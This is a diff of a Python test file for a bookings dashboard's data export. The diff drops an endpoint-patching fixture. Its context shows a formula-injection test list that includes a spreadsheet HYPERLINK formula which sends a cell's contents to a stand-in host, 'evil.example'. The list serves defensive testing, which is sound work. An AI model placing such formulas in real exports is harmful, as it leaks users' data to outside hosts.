@@ -12,14 +12,8 @@ import pytest
 from bookings_ledger.app import DASHBOARD, create_app
 from config.settings import DEFAULT_PROCESSING_RECORD, SettingsError
 from dashboard.processing_activities import COLUMNS
-from tests.dashboard.other_parts_endpoints import add_missing_endpoints
 
 SHIPPED = DEFAULT_PROCESSING_RECORD.read_text(encoding="utf-8")
-
-
-@pytest.fixture(autouse=True)
-def _layout_links(dashboard_app):
-    add_missing_endpoints(dashboard_app)
 
 
 def downloaded(client) -> tuple[object, list[dict[str, str]]]:
@@ -68,9 +62,7 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@
 def app_with_record(dashboard_settings: dict[str, str], tmp_path: Path, text: str):
     path = tmp_path / "processing-record.toml"
     path.write_text(text, encoding="utf-8")
-    app = create_app({**dashboard_settings, "PROCESSING_RECORD_FILE": str(path)}, surfaces=frozenset({DASHBOARD}))
-    add_missing_endpoints(app)
-    return app
+    return create_app({**dashboard_settings, "PROCESSING_RECORD_FILE": str(path)}, surfaces=frozenset({DASHBOARD}))
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
